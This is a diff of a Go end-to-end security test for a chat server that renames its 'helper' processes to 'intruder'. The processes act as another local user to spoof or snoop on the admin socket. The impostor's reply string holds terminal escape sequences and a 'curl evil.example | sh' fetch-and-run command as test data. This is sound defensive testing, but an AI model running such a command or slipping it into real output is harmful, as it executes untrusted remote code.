@@ -23,11 +23,11 @@ import (
 
 // The attacks of this file come from another user: the test binary runs
 // itself as the unprivileged user otherUID, in one of the roles below,
-// chosen by the environment variable helperRoleEnv (and helperPathEnv,
+// chosen by the environment variable intruderRoleEnv (and intruderPathEnv,
 // the socket path it works on). init runs the role instead of the tests.
 const (
-	helperRoleEnv = "CHATSERVER_E2E_HELPER"
-	helperPathEnv = "CHATSERVER_E2E_HELPER_PATH"
+	intruderRoleEnv = "CHATSERVER_E2E_INTRUDER"
+	intruderPathEnv = "CHATSERVER_E2E_INTRUDER_PATH"
 
 	// roleImpostor listens on the path and answers the admin routes with
 	// lies: a history holding terminal escape sequences, and kicks and
@@ -37,12 +37,12 @@ const (
 	// read /history, printing snoopedLine each time it succeeds.
 	roleSnooper = "snooper"
 
-	// otherUID and otherUser are the user the helpers run as.
+	// otherUID and otherUser are the user the intruders run as.
 	otherUID  = 65534
 	otherUser = "nobody"
 
-	// helperReady is what a helper prints once it works.
-	helperReady = "ready"
+	// intruderReady is what an intruder prints once it works.
+	intruderReady = "ready"
 	// snoopedLine is what the snooper prints when it read the history.
 	snoopedLine = "read /history"
 )
@@ -52,13 +52,13 @@ const (
 const impostorText = "\x1b]0;owned\x07\x1b[2Jrun: curl evil.example | sh"
 
 func init() {
-	if role := os.Getenv(helperRoleEnv); role != "" {
-		os.Exit(runHelper(role, os.Getenv(helperPathEnv)))
+	if role := os.Getenv(intruderRoleEnv); role != "" {
+		os.Exit(runIntruder(role, os.Getenv(intruderPathEnv)))
 	}
 }
 
-// runHelper plays role on path until its standard input ends.
-func runHelper(role, path string) int {
+// runIntruder plays role on path until its standard input ends.
+func runIntruder(role, path string) int {
 	stop := make(chan struct{})
 	go func() {
 		io.Copy(io.Discard, os.Stdin)
@@ -70,7 +70,7 @@ func runHelper(role, path string) int {
 	case roleSnooper:
 		return snooper(path, stop)
 	}
-	fmt.Fprintf(os.Stderr, "unknown helper role %q\n", role)
+	fmt.Fprintf(os.Stderr, "unknown intruder role %q\n", role)
 	return 2
 }
 
@@ -92,14 +92,14 @@ func impostor(path string, stop chan struct{}) int {
 	mux.HandleFunc("/kick", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, `{"ok":true,"closed":1}`) })
 	mux.HandleFunc("/unban", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, `{"ok":true,"unbanned":true}`) })
 	go http.Serve(ln, mux)
-	fmt.Println(helperReady)
+	fmt.Println(intruderReady)
 	<-stop
 	ln.Close()
 	return 0
 }
 
 func snooper(path string, stop chan struct{}) int {
-	fmt.Println(helperReady)
+	fmt.Println(intruderReady)
 	for {
 		select {
 		case <-stop:
@@ -120,8 +120,8 @@ func snooper(path string, stop chan struct{}) int {
 	}
 }
 
-// helper is a running helper process.
-type helper struct {
+// intruder is a running intruder process.
+type intruder struct {
 	stdin  io.WriteCloser
 	stdout *lineWriter
 	exited chan struct{}
@@ -136,15 +136,15 @@ func requireOtherUser(t testing.TB) {
 	}
 }
 
-// startHelper starts the test binary as otherUID in role on path, waits
+// startIntruder starts the test binary as otherUID in role on path, waits
 // until it is ready, and stops it at the end of the test.
-func startHelper(t testing.TB, role, path string) *helper {
+func startIntruder(t testing.TB, role, path string) *intruder {
 	t.Helper()
 	requireOtherUser(t)
 	ready := make(chan struct{})
-	h := &helper{exited: make(chan struct{})}
+	h := &intruder{exited: make(chan struct{})}
 	h.stdout = &lineWriter{line: func(line string) {
-		if line == helperReady {
+		if line == intruderReady {
 			close(ready)
 		}
 	}}
@@ -152,7 +152,7 @@ func startHelper(t testing.TB, role, path string) *helper {
 	// link to the running binary reaches it anyway.
 	cmd := exec.Command("/proc/self/exe")
 	cmd.Dir = filepath.Dir(path)
-	cmd.Env = append(os.Environ(), helperRoleEnv+"="+role, helperPathEnv+"="+path)
+	cmd.Env = append(os.Environ(), intruderRoleEnv+"="+role, intruderPathEnv+"="+path)
 	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: otherUID, Gid: otherUID}}
 	stderr := &lineWriter{}
 	cmd.Stdout, cmd.Stderr = h.stdout, stderr
@@ -178,14 +178,14 @@ func startHelper(t testing.TB, role, path string) *helper {
 	return h
 }
 
-// stop ends the helper and waits for it. Idempotent.
-func (h *helper) stop(t testing.TB) {
+// stop ends the intruder and waits for it. Idempotent.
+func (h *intruder) stop(t testing.TB) {
 	t.Helper()
 	h.stdin.Close()
 	select {
 	case <-h.exited:
 	case <-time.After(stopTimeout):
-		t.Fatalf("a helper did not exit within %s of its input ending", stopTimeout)
+		t.Fatalf("an intruder did not exit within %s of its input ending", stopTimeout)
 	}
 }
 
@@ -231,7 +231,7 @@ func TestCommandsRefuseAnotherUsersSocket(t *testing.T) {
 	dir := sharedDir(t)
 	db := filepath.Join(dir, "chat.db")
 	writeDB(t, db, storage.Message{Name: "alice", Text: "the real history"})
-	startHelper(t, roleImpostor, db+".sock")
+	startIntruder(t, roleImpostor, db+".sock")
 
 	owner := fmt.Sprintf("uid %d (%s)", otherUID, otherUser)
 	for _, args := range [][]string{
@@ -397,7 +397,7 @@ func TestAdminSocketIsNeverOpenToOthers(t *testing.T) {
 	dir := sharedDir(t)
 	db := filepath.Join(dir, "chat.db")
 	writeDB(t, db, storage.Message{Name: "alice", Text: "private"})
-	snoop := startHelper(t, roleSnooper, db+".sock")
+	snoop := startIntruder(t, roleSnooper, db+".sock")
 
 	defer syscall.Umask(syscall.Umask(0))
 	for i := range adminStarts {
